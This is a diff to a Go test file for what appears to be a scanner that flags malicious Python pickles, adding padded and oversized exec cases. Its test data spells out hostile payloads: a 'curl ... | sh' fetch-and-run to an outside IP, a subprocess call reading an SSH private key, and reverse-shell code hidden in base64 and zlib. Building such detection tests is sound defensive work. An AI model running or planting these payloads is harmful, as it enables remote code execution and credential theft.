@@ -45,6 +45,8 @@ func TestCarriedCode(t *testing.T) {
 		{"shell", evil + `UNICODE "curl http://192.0.2.1/x | sh"; TUPLE1; REDUCE; STOP`, "MA101 os.system", "downloads something and runs it"},
 		{"list of arguments", `GLOBAL "subprocess" "Popen"; EMPTY_LIST; MARK; UNICODE "cat"; UNICODE "/home/ann/.ssh/id_rsa"; APPENDS; TUPLE1; REDUCE; STOP`, "MA101 subprocess.Popen", "reads credentials (.ssh/id_)"},
 		{"python", exec(fmt.Sprintf(`UNICODE %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
+		{"text of a long line", exec(fmt.Sprintf(`UNICODE %q; `, "\n"+reverse+strings.Repeat("#", 1<<20))), "MA101 builtins.exec", "opens a reverse shell"},
+		{"text of many bytes that says nothing", exec(fmt.Sprintf(`BINUNICODE %q; `, strings.Repeat("x = 1\n", 2000))), "MA101 builtins.exec", "calls builtins.exec(a text of 12000 bytes), "},
 		{"bytes", exec(fmt.Sprintf(`SHORT_BINBYTES %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
 		{"base64", exec(fmt.Sprintf(`UNICODE "import base64;exec(base64.b64decode('%s'))"; `, base64.StdEncoding.EncodeToString([]byte(reverse)))), "MA101 builtins.exec", "opens a reverse shell"},
 		{"base64 of zlib", exec(fmt.Sprintf(`UNICODE "exec(zlib.decompress(base64.b64decode('%s')))"; `, wrapped(reverse))), "MA101 builtins.exec", "hides code (zlib in base64)"},
